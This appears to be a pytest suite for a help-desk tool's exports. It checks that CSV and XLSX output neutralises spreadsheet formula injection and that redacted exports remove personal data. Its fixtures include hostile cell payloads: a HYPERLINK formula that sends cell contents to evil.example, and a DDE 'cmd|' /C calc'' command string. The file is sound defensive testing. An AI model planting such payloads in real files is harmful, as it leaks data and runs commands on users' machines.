"""Exports that leave KnownFix (issue 5): formula injection neutralised in the CSV export
and the report's CSV and XLSX; personal data taken out of a redacted export; and the
personal-data report (`knownfix privacy-report`)."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from cli.main import app
from errors import BadInput
from kb.exporter import export_csv, safe_cell
from kb.importer import ColumnMapping
from kb.records import Record
from kb.redact import detect
from service.auth import SYSTEM
from service.desk import Desk
from service.engine import Engine
from service.privacy import personal_data_report
from tests.helpers import legacy_assignee

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
FUZZ = settings(max_examples=60, derandomize=True, database=None, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow])
FAST_ENV = {"KNOWNFIX_MODEL": "hash:256", "KNOWNFIX_VECTOR_BACKEND": "numpy"}


def cells_of(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_formula_safe(cells) -> None:
    bad = [c for c in cells if isinstance(c, str) and c[:1] in FORMULA_STARTS]
    assert bad == []


# -- formula injection ---------------------------------------------------------------------------
@given(st.sampled_from(FORMULA_STARTS), st.text(max_size=30))
@FUZZ
def test_safe_cell_never_starts_a_formula(start, rest):
    value = start + rest
    assert safe_cell(value) == "'" + value
    assert safe_cell(rest) in (rest, "'" + rest)
    assert safe_cell(rest)[:1] not in FORMULA_STARTS


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_export_neutralises_every_formula_start(engine: Engine, start: str):
    payload = f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    engine.upsert([Record("case", f"{start}id", title=payload, text=f"{start}1+1 cmd",
                          fix=f"{start}cmd|' /C calc'!A0", labels={"category": f"{start}x"},
                          state="closed", extra={"备注": payload})])
    for redact in (False, True):
        buf = io.StringIO()
        export_csv(engine.kb, buf, redact=redact)
        cells = cells_of(buf.getvalue())
        assert_formula_safe(cells)
        assert "'" + payload in cells and f"'{start}id" in cells


def _report_world(engine: Engine) -> Desk:
    desk = Desk(engine)
    desk.users.add(SYSTEM, "eng", "password123", "engineer")
    for n, start in enumerate(FORMULA_STARTS):
        case = desk.cases.open(SYSTEM, f"{start}SUM(1+1) printer {n} offline",
                               title=f"{start}title {n}", channel="phone")
        desk.cases.escalate(SYSTEM, case.id, "eng", f"{start}1 escalate {n}")
        legacy_assignee(engine, case.id, f"{start}cmd|' /C calc'!A{n}")
        desk.cases.resolve(SYSTEM, case.id, f"{start}fixed {n}")
    return desk


def _period() -> tuple[str, str]:
    today = datetime.now(UTC).date()
    return today.isoformat(), (today + timedelta(days=1)).isoformat()


def test_report_exports_neutralise_every_formula_start(engine: Engine, tmp_path: Path):
    desk = _report_world(engine)
    desk.reports.export(SYSTEM, *_period(), "xlsx", tmp_path / "r.xlsx")
    book = load_workbook(tmp_path / "r.xlsx")  # formulas would load as formulas here
    values = [c for ws in book for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in values if c.data_type == "f"] == []
    texts = [c.value for c in values if isinstance(c.value, str)]
    assert_formula_safe(texts)
    for start in ("=", "+", "-", "@"):  # the assignee is reported per engineer
        assert any(t.startswith(f"'{start}cmd|") for t in texts), start
    buf = io.StringIO()
    desk.reports.export(SYSTEM, *_period(), "csv", buf)
    cells = cells_of(buf.getvalue())
    assert_formula_safe(cells)
    assert any(c.startswith("'\tcmd|") for c in cells)


# -- redacted export -----------------------------------------------------------------------------
SECRETS = {
    "customer": "王建国", "contact": "李秀英 13912345678", "serial": "SN-77QX-4412",
    "phone": "13812345678", "landline": "0755-86001234", "email": "wang.jg@example.com",
    "id": "110101199003071234", "intl": "+44 20 7946 0958", "en_name": "Harriet Okafor",
    "en_phone": "555-123-4567", "other_phone": "13600001111", "other_mail": "ops@acme.cn",
}


def _personal_kb(desk: Desk, folder: Path) -> list[str]:
    """Cases opened through intake (customer, contact, serial in their own columns) and
    imported ones (a 客户信息 and a contact_phone column), all mentioning personal data in
    their free text; and one article. Returns the case ids opened through intake."""
    s = SECRETS
    opened = []
    case = desk.cases.open(
        SYSTEM, f"{s['customer']}说NVR提示硬盘错误E-1043，回电{s['phone']}或邮件{s['email']}，"
                f"身份证{s['id']}，设备{s['serial']}，网关10.0.0.1",
        title=f"{s['customer']}的录像机", customer=s["customer"], contact=s["contact"],
        asset_serial=s["serial"], channel="phone")
    desk.cases.resolve(SYSTEM, case.id, f"李工更换硬盘，联系李秀英确认，座机{s['landline']}")
    opened.append(case.id)
    case = desk.cases.open(
        SYSTEM, f"{s['en_name']} reports camera offline at 192.168.1.20, call "
                f"{s['en_phone']} or {s['intl']}", customer="Okafor Logistics Ltd",
        contact=s["en_name"], channel="email")
    opened.append(case.id)
    path = folder / "imported.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["工单号", "客户信息", "contact_phone", "故障表述", "处理记录", "备注"])
        w.writerow(["SR-1", "华东物流园 赵德胜", s["other_phone"], "赵德胜反映UPS冒烟",
                    f"更换电池，回访{s['other_mail']}", "赵德胜要求上午上门"])
        w.writerow(["SR-2", "", "", "平台授权到期 E-1043", "续期", ""])
    desk.import_file(SYSTEM, path, ColumnMapping(text=["故障表述"], fix="处理记录",
                                                 id="工单号"))
    desk.cases.close(SYSTEM, opened[0])  # drafts an article, redacted; then edited
    draft = desk.knowledge.list("wip")[0].id
    desk.knowledge.edit(SYSTEM, draft, resolution=f"更换硬盘后致电{s['customer']}，"
                                                  f"{s['phone']}确认")
    desk.knowledge.create(SYSTEM, "授权续期", "平台授权到期E-1043",
                          f"联系商务续期，邮件{s['other_mail']}")
    return opened


LEAKS = [*SECRETS.values(), "李秀英", "赵德胜", "Harriet", "Okafor", "王先生", "86001234"]


def test_redacted_export_has_no_personal_data(engine: Engine, tmp_path: Path):
    desk = Desk(engine)
    _personal_kb(desk, tmp_path)
    plain, redacted = io.StringIO(), io.StringIO()
    assert desk.export(SYSTEM, plain) == desk.export(SYSTEM, redacted, redact=True)
    assert "王建国" in plain.getvalue() and "赵德胜" in plain.getvalue()  # the test is real
    out = redacted.getvalue()
    assert [leak for leak in LEAKS if leak in out] == []
    for placeholder in ("[name]", "[phone]", "[email]", "[id]", "[serial]"):
        assert placeholder in out, placeholder
    for kept in ("E-1043", "10.0.0.1", "192.168.1.20", "NVR", "UPS", "SR-1"):
        assert kept in out, kept
    rows = list(csv.DictReader(io.StringIO(out)))
    assert list(rows[0]) == list(next(csv.DictReader(io.StringIO(plain.getvalue()))))
    sr1 = next(r for r in rows if r["id"] == "SR-1")
    assert (sr1["客户信息"], sr1["contact_phone"]) == ("[name]", "[phone]")
    assert sr1["备注"] == "[name]要求上午上门"
    assert next(r for r in rows if r["id"] == "SR-2")["客户信息"] == ""
    assert not [c for r in rows for c in r.values() if detect(c)]
    event = engine.kb.events()[-1]
    assert (event["actor"], event["action"], json.loads(event["detail"])["redact"]) == \
        ("system", "export", True)


SURNAMES = "王李张刘陈杨赵黄周吴徐孙胡朱高林何郭马罗"
GIVEN = "伟芳娜秀英敏静丽强磊军洋勇艳杰娟涛明超兰霞"
FILLER = st.sampled_from(["NVR硬盘错误", "摄像机离线", "平台授权到期E-1043", "网关10.0.0.1",
                          "camera offline", "UPS冒烟", "录像回放失败", "。", "，", " "])


@st.composite
def personal_case(draw):
    name = draw(st.sampled_from(SURNAMES)) + draw(st.text(st.sampled_from(GIVEN), min_size=1,
                                                           max_size=2))
    phone = "1" + draw(st.sampled_from("3456789")) + draw(st.text("0123456789", min_size=9,
                                                                  max_size=9))
    user = draw(st.text("abcdefghijklmnopqrstuvwxyz", min_size=2, max_size=8))
    email = f"{user}.{draw(st.integers(1, 99))}@{draw(st.sampled_from(['qq.com', 'ex.cn']))}"
    year = draw(st.integers(1950, 2005))
    ident = (f"{draw(st.integers(110000, 659999))}{year}{draw(st.integers(1, 12)):02d}"
             f"{draw(st.integers(1, 28)):02d}{draw(st.integers(0, 999)):03d}"
             f"{draw(st.sampled_from('0123456789X'))}")
    pieces = [name, phone, email, ident, *draw(st.lists(FILLER, max_size=5))]
    order = draw(st.permutations(pieces))
    seps = draw(st.lists(st.sampled_from([" ", "，", "：", "\n", "电话", "邮箱 "]),
                         min_size=len(order), max_size=len(order)))
    text = "".join(p + s for p, s in zip(order, seps, strict=True))
    return name, phone, email, ident, text


@FUZZ
@given(case=personal_case())
def test_redaction_takes_out_generated_personal_data(engine: Engine, case):
    name, phone, email, ident, text = case
    desk = Desk(engine)
    opened = desk.cases.open(SYSTEM, text, customer=name, contact=f"{name} {phone}")
    buf = io.StringIO()
    desk.export(SYSTEM, buf, "case", redact=True)
    row = next(r for r in csv.DictReader(io.StringIO(buf.getvalue())) if r["id"] == opened.id)
    exported = " ".join(row.values())
    assert [s for s in (name, phone, email, ident) if s in exported] == []


def test_export_of_an_unknown_kind_is_a_clear_error(engine: Engine):
    with pytest.raises(BadInput, match="unknown kind"):
        export_csv(engine.kb, io.StringIO(), "users")


# -- the personal-data report --------------------------------------------------------------------
def test_privacy_report_shows_where_personal_data_is(engine: Engine, tmp_path: Path):
    desk = Desk(engine)
    opened = _personal_kb(desk, tmp_path)
    desk.users.add(SYSTEM, "u_eng", "password123", "engineer", display_name="Li Wei")
    report = personal_data_report(engine.kb)
    by = {(r["table"], r["column"]): r for r in report}
    assert by[("cases", "customer")]["personal"] == "name"
    assert by[("cases", "customer")]["with_value"] == len(opened)
    assert by[("cases", "contact")]["with_value"] == len(opened)
    assert by[("cases", "contact")]["phone"] == 1  # "李秀英 13912345678"
    assert (by[("cases", "asset_serial")]["personal"], by[("cases", "asset_serial")]
            ["with_value"]) == ("serial", 1)
    text = by[("cases", "text")]
    assert text["personal"] == "" and (text["phone"], text["email"], text["id"]) == (2, 1, 1)
    assert by[("cases", "fix")]["phone"] >= 1 and by[("cases", "fix")]["email"] == 1
    assert by[("cases", "extra:客户信息")]["personal"] == "name"
    assert by[("cases", "extra:客户信息")]["with_value"] == 1
    assert by[("cases", "extra:contact_phone")]["personal"] == "phone"
    assert (by[("articles", "fix")]["phone"], by[("articles", "fix")]["email"]) == (1, 1)
    assert by[("article_versions", "fix")]["phone"] == 1  # the history keeps it too
    assert ("articles", "text") not in by  # the draft was redacted
    assert by[("users", "display_name")]["personal"] == "staff name"
    assert by[("events", "actor")]["personal"] == "staff name"
    assert ("cases", "severity") not in by and ("cases", "state") not in by
    for r in report:
        assert r["with_value"] <= r["records"]
        assert r["with_pattern"] <= r["with_value"]
    dumped = json.dumps(report, ensure_ascii=False)
    assert [leak for leak in LEAKS if leak in dumped] == []  # counts, never values


# -- through the command line ---------------------------------------------------------------------
def cli(*args, data: Path):
    return CliRunner().invoke(app, [str(a) for a in (*args, "--data-dir", data)], env=FAST_ENV)


@pytest.fixture
def cli_data(tmp_path: Path, settings) -> Path:
    engine = Engine(settings)
    _personal_kb(Desk(engine), tmp_path)
    engine.close()
    return Path(settings.data_dir)


def test_cli_export_redact(cli_data: Path, tmp_path: Path):
    plain = cli("export", tmp_path / "plain.csv", data=cli_data)
    assert plain.exit_code == 0, plain.output
    assert "王建国" in (tmp_path / "plain.csv").read_text(encoding="utf-8-sig")
    result = cli("export", tmp_path / "safe.csv", "--redact", data=cli_data)
    assert result.exit_code == 0, result.output
    assert "redacted" in result.stdout
    out = (tmp_path / "safe.csv").read_text(encoding="utf-8-sig")
    assert [leak for leak in LEAKS if leak in out] == []
    assert "E-1043" in out


def test_cli_export_errors_are_one_line(cli_data: Path, tmp_path: Path):
    for args in (["export", tmp_path / "x.csv", "--kind", "users"],
                 ["export", tmp_path / "missing" / "dir" / "x.csv"]):
        result = cli(*args, data=cli_data)
        assert result.exit_code == 1, result.output
        assert "Traceback" not in result.output
        lines = result.stderr.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr


def test_cli_privacy_report(cli_data: Path):
    result = cli("privacy-report", "--json", data=cli_data)
    assert result.exit_code == 0, result.output
    rows = json.loads(result.stdout)
    assert {(r["table"], r["column"]) for r in rows} >= {
        ("cases", "customer"), ("cases", "contact"), ("cases", "asset_serial"),
        ("cases", "text"), ("cases", "extra:客户信息")}
    table = cli("privacy-report", data=cli_data)
    assert table.exit_code == 0, table.output
    lines = table.stdout.splitlines()
    assert lines[0].split() == ["table.column", "holds", "values", "phone", "email", "id"]
    assert any(line.startswith("cases.customer") and " name " in line for line in lines)
    assert [leak for leak in LEAKS if leak in table.stdout] == []
